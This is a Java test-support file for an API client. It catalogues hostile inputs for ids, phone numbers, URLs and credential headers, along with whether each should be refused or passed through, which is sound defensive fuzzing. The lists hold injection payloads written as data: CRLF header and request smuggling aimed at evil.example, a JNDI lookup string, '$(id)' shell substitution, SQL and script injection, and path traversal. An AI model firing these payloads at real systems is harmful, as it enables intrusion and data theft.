package dev.switchboard.contract;

import dev.switchboard.core.spi.Masking;
import java.util.ArrayList;
import java.util.List;

/**
 * Text of every hostile kind, in every place of an id, a number, a URL and a credential. What is here and what becomes of
 * it is data; how it is brought to a call is in {@link HostileContract}.
 */
final class HostileCatalogue {

    /** What becomes of a text, as an id. */
    enum Fate {
        /** Refused before a byte is sent. */
        REFUSED,
        /** Somebody may have it: it arrives as it is. */
        ARRIVES
    }

    /** A text and its fate. */
    record Input(String text, Fate fate) {
        /** Readable, whatever it holds. */
        @Override
        public String toString() {
            return Masking.quoted(text) + " of " + text.length();
        }
    }

    private static final int MILLION = 1_000_000;

    /** Controls, invisible characters, directions, halves of characters: in no place of anything. */
    private static final List<String> CUTTING = split(
            "\r\n|\n|\r|\t|\0|\u0001|\u0007|\b|\u000b|\f|\u001b[31m|\u001f|\u007f"
                    + "|\u0080|\u0085|\u009b|\u00ad|\u0600|\u061c|\u070f|\u180e|\u200b|\u200c|\u200d|\u200e|\u200f|\u2028|\u2029"
                    + "|\u202a|\u202b|\u202c|\u202d|\u202e|\u2060|\u2061|\u2064|\u2066|\u2067|\u2068|\u2069|\u206a|\ufeff|\ufff9|\ufffb"
                    + "|\ud800|\udbff|\udc00|\udfff|\ud83d|\udc00\ud800|\udb40\udc41|\ud834\udd73|\r\nHost: evil.example"
                    + "|\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.example\r\n\r\n|\n X-Folded: yes|\ud83d\udc68\u200d\ud83d\udc67");

    /** What looks like nothing: not alone, and not around an id. */
    private static final List<String> BLANK = split(
            " |   |\u00a0|\u1680|\u2000|\u2001|\u2002|\u2003|\u2004|\u2005|\u2006|\u2007|\u2008|\u2009|\u200a|\u202f"
                    + "|\u205f|\u3000");

    /** Text with a meaning elsewhere: for paths, headers, JSON, shells, templates, databases, eyes. */
    private static final List<String> ODD =
            split("/|//|../|/..|/../|../../admin|./.|%2e%2e|%2E%2E%2F|..%2f|%2F|%5c|%00|%0d%0a"
                    + "|%|%%|%zz|%u002e|%252e|%c0%ae|?|?a=b|#|#x|;|;a=b|&|&a=b|=|+|\\|..\\..\\|\"|'|`|$(id)|${jndi:ldap://evil.example/a}"
                    + "|{{7*7}}|{number}|{agent_id}|{id}|{|}|<script>alert(1)</script>|<!--|' OR '1'='1|~|^|[|]|*|!|@|:|,|://"
                    + "|http://evil.example/|//evil.example|user:pass@evil.example|...|....|. .|-|--|_|NaN|null|undefined|true|-1|0|1e309"
                    + "|\u00e9|\u00fc|\u00df|\u0130|\u0131|e\u0301|\u0301|\u20e3|\u4e2d|\u3042|\ud55c|\u05d0|\u0627|\uff11|\u0661|\u06f5"
                    + "|\u0967|\u00b2|\u2460|\u2167|\u00bd|\ud83d\ude00|\ud83c\udde9\ud83c\uddea|\ufe0f|\u034f|\u3164|\u115f|\u2800|\ue000"
                    + "|\uffff|\ufffd|\u0378|\udbff\udfff|\uff0b|\uff0e\uff0e|\u2024\u2024|\uff0f|\u2215|\u29f8|\uff05\uff12\uff45|\uff20"
                    + "|\ud835\udfcf|\u0430pple|\u2044|K\u212a|\u017f");

    /** No numbers, though some look like one. */
    private static final List<String> BAD_NUMBERS =
            split("|+|++14155550123|14155550123|4155550123|0014155550123|01114155550123"
                    + "|(415) 555-0123|+1 415 555 0123|+1-415-555-0123|+1.415.555.0123|+1(415)5550123|+1/415/5550123|+1_4155550123"
                    + "|tel:+14155550123|sip:+14155550123@a.example|+14155550123;ext=4|+14155550123x4|+14155550123,4|+1415555012|+141555501"
                    + "|+1|+12|+123|+1415|+5550123|+141555501234|+1415555012345678|+141555501234567890123456789|+0|+04155550123"
                    + "|+00000000000|+99912345678|+9994155550123|+2104155550123|+4402079460018|+44(0)2079460018|+490301234567"
                    + "|+1800FLOWERS|+1415555O123|+l4155550123|-14155550123|+-14155550123|+14155550123+|+14155550123.0|+1.4155550123E10"
                    + "|1.4155550123E10|0x14155550123|+0x415|\uff0b14155550123|+\uff11\uff14\uff11\uff15\uff15\uff15\uff15\uff10\uff11\uff12\uff13"
                    + "|+\u0661\u0664\u0661\u0665\u0665\u0665\u0665\u0660\u0661\u0662\u0663|+1415555012\ud835\udfd1|+1\u20e34155550123"
                    + "|+1,4155550123|+14155550123 +14155550124|+14155550123,+14155550124|phone|null|+null|%2B14155550123|%2b14155550123"
                    + "|&#43;14155550123|\\u002b14155550123");

    private static final String NUMBER = "+14155550123";

    private HostileCatalogue() {}

    private static List<String> split(String table) {
        return List.of(table.split("\\|", -1));
    }

    /** In the place of an id. */
    static List<Input> ids() {
        List<Input> ids = new ArrayList<>();
        for (String cutting : CUTTING) {
            for (String text : places(cutting)) {
                ids.add(new Input(text, Fate.REFUSED));
            }
        }
        for (String blank : BLANK) {
            for (String text : List.of(blank, blank + blank, "a" + blank, blank + "a")) {
                ids.add(new Input(text, Fate.REFUSED));
            }
            ids.add(new Input("a" + blank + "b", Fate.ARRIVES));
        }
        for (String odd : ODD) {
            for (String text : List.of(odd, "a" + odd + "b", odd + odd)) {
                ids.add(new Input(text, Fate.ARRIVES));
            }
        }
        for (String text : List.of("", ".", "..", "x".repeat(513))) {
            ids.add(new Input(text, Fate.REFUSED));
        }
        for (String part : List.of("x", "../", "\u0661", "\ud83d\ude00", "\u202e", " ", "\0", "\ud800", "%2e")) {
            ids.add(new Input(part.repeat(MILLION / part.length()), Fate.REFUSED));
        }
        ids.add(new Input("x".repeat(512), Fate.ARRIVES));
        ids.add(new Input("\ud83d\ude00".repeat(256), Fate.ARRIVES));
        ids.add(new Input("../".repeat(170), Fate.ARRIVES));
        return ids;
    }

    /** In the place of an id that is an integer: one way to write it, and no more digits than every reader keeps. */
    static List<Input> integers() {
        List<String> texts = new ArrayList<>(ids().stream().map(Input::text).toList());
        for (List<String> kind : List.of(CUTTING, BLANK, ODD)) {
            for (String part : kind) {
                texts.addAll(List.of("1" + part, part + "1", "1" + part + "2"));
            }
        }
        texts.addAll(split("00|01|007|1.0|1e3|1E3|0x1|1f|1L|1_000|1,000|+1|-0|0.0|9223372036854775808"
                + "|1000000000000000000|18446744073709551616|123456789012345678|9|10|999999999999999999"));
        return texts.stream()
                .map(text -> new Input(text, text.matches("0|[1-9][0-9]{0,17}") ? Fate.ARRIVES : Fate.REFUSED))
                .toList();
    }

    /** In the place of a phone number: never one. */
    static List<Input> numbers() {
        List<String> texts = new ArrayList<>(BAD_NUMBERS);
        for (List<String> kind : List.of(CUTTING, BLANK, ODD)) {
            for (String part : kind) {
                texts.addAll(List.of(
                        part,
                        part + NUMBER,
                        "+" + part + NUMBER.substring(1),
                        "+1415" + part + "5550123",
                        NUMBER + part));
            }
        }
        for (String part : List.of("1", "+1", " ", "\u0661", "\u200b", "\0", ",", "x", "\ud800")) {
            texts.add(part.repeat(MILLION / part.length()));
            texts.add(NUMBER + part.repeat(MILLION / part.length()));
        }
        return texts.stream().map(text -> new Input(text, Fate.REFUSED)).toList();
    }

    /** Around and inside a URL: either refused, or sent as it is. */
    static List<String> urls(String host) {
        List<String> urls = new ArrayList<>();
        for (List<String> kind : List.of(CUTTING, BLANK, ODD)) {
            for (String part : kind) {
                urls.addAll(List.of(
                        part,
                        part + "https://" + host,
                        "https" + part + "://" + host,
                        "https://" + part + host,
                        "https://" + host + part,
                        "https://" + host + "/a" + part + "b"));
            }
        }
        return urls;
    }

    /** In the place of a credential or of a header's value; both halves of the secret word are in no message of ours. */
    static List<Input> headerValues() {
        List<Input> values = new ArrayList<>();
        for (List<String> kind : List.of(CUTTING, BLANK, ODD)) {
            for (String part : kind) {
                for (String text : List.of(part + "zqxvjw", "zqx" + part + "vjw", "zqxvjw" + part)) {
                    boolean printable = text.chars().allMatch(c -> c >= ' ' && c <= '~');
                    values.add(new Input(text, printable && text.equals(text.strip()) ? Fate.ARRIVES : Fate.REFUSED));
                }
            }
        }
        values.add(new Input("zqxvjw".repeat(MILLION / 6), Fate.REFUSED));
        values.add(new Input(" ".repeat(MILLION), Fate.REFUSED));
        values.add(new Input("zqxvjw\n".repeat(MILLION / 7), Fate.REFUSED));
        return values;
    }

    /** In the place of a text that a server sends: alone, and inside a phone number. */
    static List<String> received() {
        List<String> texts = new ArrayList<>(List.of("x".repeat(100_000), (NUMBER + " ").repeat(1_000), ".", ".."));
        for (List<String> kind : List.of(CUTTING, BLANK, ODD)) {
            for (String part : kind) {
                texts.addAll(List.of(part, "+1415" + part + "5550123"));
            }
        }
        return texts;
    }

    private static List<String> places(String part) {
        return List.of(part, part + part, "a" + part, part + "a", "a" + part + "b");
    }
}
